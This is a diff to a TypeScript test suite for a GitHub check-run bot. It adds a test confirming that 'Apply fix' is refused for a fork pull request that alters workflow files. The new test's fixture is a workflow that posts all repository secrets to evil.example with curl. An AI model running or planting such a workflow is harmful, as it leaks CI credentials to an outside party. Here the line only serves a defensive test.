@@ -5,7 +5,7 @@
 // a red build's on the pull request's head; the buttons Retry and Apply fix are clicked
 // as `check_run.requested_action` deliveries.
 import { execFileSync } from "node:child_process";
-import { mkdtemp, writeFile } from "node:fs/promises";
+import { mkdir, mkdtemp, writeFile } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { Probot, ProbotOctokit } from "probot";
@@ -97,7 +97,7 @@ async function issueRepository() {
 }
 
 /** main with a correct cart, and pull request #7 that breaks it (for a fork: only as refs/pull/7/head). */
-async function redPullRequest(fork: boolean) {
+async function redPullRequest(fork: boolean, extra: Record<string, string> = {}) {
   const config = `triggers:\n  ciFailure: auto\n${PYTEST}`;
   const work = await gitRepo({ "shop/__init__.py": "", "shop/cart.py": CART_OK, "tests/test_cart.py": TESTS, ".github/autogen.yml": config });
   remote = join(root, "remote.git");
@@ -105,6 +105,11 @@ async function redPullRequest(fork: boolean) {
   const baseSha = sh(work, "rev-parse", "HEAD");
   sh(work, "switch", "--quiet", "--create", "feature/bulk");
   await writeFile(join(work, "shop/cart.py"), CART_PR);
+  for (const [path, text] of Object.entries(extra)) {
+    await mkdir(join(work, path, ".."), { recursive: true });
+    await writeFile(join(work, path), text);
+  }
+  sh(work, "add", "--all");
   sh(work, "-c", "user.name=Dev", "-c", "user.email=dev@example.invalid", "commit", "--quiet", "--all", "--message", "Add bulk totals");
   const headSha = sh(work, "rev-parse", "HEAD");
   sh(work, "push", "--quiet", remote, fork ? "HEAD:refs/pull/7/head" : "feature/bulk");
@@ -338,5 +343,20 @@ describe("the autogen check run", { timeout: 300_000 }, () => {
     expect(writesSince(before), "the same delivery again").toEqual([]);
     expect(state.pulls).toHaveLength(1);
     expect(github.calls("pulls/create")).toHaveLength(1);
+  });
+
+  it("Apply fix on a fork whose pull request changes its workflows: refused, nothing written (on a branch of this repository they would run with its secrets)", async () => {
+    const exfiltrate = "on: push\njobs:\n  steal:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://evil.example/\n";
+    const { headSha, workflowRun } = await redPullRequest(true, { ".github/workflows/ci.yml": exfiltrate });
+    const { probot, idle } = await startApp();
+    await probot.receive({ id: "red-fork-workflows", name: "workflow_run", payload: workflowRun } as never);
+    await idle();
+    const run = checkRuns()[0] as FakeCheckRun;
+    expect(run.actions.map((a) => a.identifier)).toEqual(["retry", "apply"]);
+    const before = github.requests.length;
+    await probot.receive({ id: "apply-workflows", name: "check_run", payload: click({ id: run.id, head_sha: run.head_sha, external_id: run.external_id }, "apply") } as never);
+    expect(writesSince(before)).toEqual([]);
+    expect(state.pulls).toEqual([]);
+    expect(execFileSync("git", ["--git-dir", remote, "for-each-ref", "--format=%(refname)", `refs/heads/autogen/fix-7-${headSha.slice(0, 7)}`], { encoding: "utf8" })).toBe("");
   });
 });
